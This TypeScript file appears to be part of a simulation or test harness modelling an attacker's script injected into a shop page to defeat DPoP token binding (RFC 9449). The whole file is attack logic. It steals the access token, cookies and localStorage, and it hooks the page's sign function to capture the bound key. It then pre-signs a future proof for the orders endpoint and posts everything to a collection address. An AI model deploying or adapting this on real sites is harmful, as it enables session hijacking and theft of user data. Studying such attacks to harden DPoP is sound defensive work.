/** Mallory's script in the shop's page makes proofs for later: the key stays where it is, what it signed does not. */
import { decodeProtectedHeader, exportJWK } from 'jose'
import { headerOf, type Page } from '../browser/index.ts'
import { paths, PROOF_KEY } from '../server/index.ts'
import { COLLECT } from './addresses.ts'
import { readOwn } from './forge/ownToken.ts'
import type { Report } from './collect.ts'
import { everythingIn } from './injection.ts'
import { hashOf, ownProof } from './proof.ts'
import type { ProofKey } from './proofKey.ts'

/** For how much later, in milliseconds: when she has closed the page. */
const LATER = 150_000

/**
 * Takes the token along, and a proof by her key for reading her orders then (RFC 9449 §11.2).
 *
 * @param use makes the page send something of its own
 */
export async function presign(page: Page, use: () => Promise<unknown>): Promise<void> {
  const token = page.localStorage.getItem('access_token')
  if (token === null) return
  const target = { method: 'GET', url: new URL(paths.orders, page.url).href }
  const ath = await hashOf(token)
  const key = await pageKey(page, token, use)
  const proof = async (now: number, nonce?: string) =>
    ownProof(key, {
      ...target,
      ath,
      now,
      jti: page.randomUUID(),
      ...(nonce === undefined ? {} : { nonce }),
    })
  // If the shop wants a nonce in it, it says so to whoever asks; there is none for later.
  const headers = { Authorization: `DPoP ${token}`, DPoP: await proof(page.now()) }
  const nonce = headerOf(await page.fetch(target.url, { headers }), 'DPoP-Nonce')
  const report: Report = {
    origin: page.origin,
    cookies: page.cookie,
    localStorage: everythingIn(page),
    overheard: null,
    proof: { ...target, value: await proof(page.now() + LATER, nonce) },
  }
  await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: JSON.stringify(report) })
}

/** The page's key as a handle, whose bytes no script gets; one of his own where the page has none. */
async function pageKey(page: Page, token: string, use: () => Promise<unknown>): Promise<ProofKey> {
  const kept = await page.indexedDB.get(PROOF_KEY)
  if (kept) return exported(kept)
  const own = readOwn(token)
  const isUnbound = own !== null && own.claims.cnf === undefined
  const used = isUnbound ? undefined : await keyInUse(page, use)
  return used ?? exported(await page.generateKeyPair())
}

async function exported({ privateKey, publicKey }: CryptoKeyPair): Promise<ProofKey> {
  const { kty = '', crv = '', x = '' } = await exportJWK(publicKey)
  return { privateKey, jwk: { kty, crv, x } }
}

/** A key in a variable has no name for another script, but it goes through the page's `sign`, as a token does through `fetch`. */
async function keyInUse(page: Page, use: () => Promise<unknown>): Promise<ProofKey | undefined> {
  const { sign } = page
  const used: ProofKey[] = []
  page.sign = (privateKey, data) => {
    const { kty = '', crv = '', x = '' } = decodeProtectedHeader(`${new TextDecoder().decode(data)}.`).jwk ?? {}
    used.push({ privateKey, jwk: { kty, crv, x } })
    return sign(privateKey, data)
  }
  try {
    await use()
  } finally {
    page.sign = sign
  }
  return used.at(-1)
}
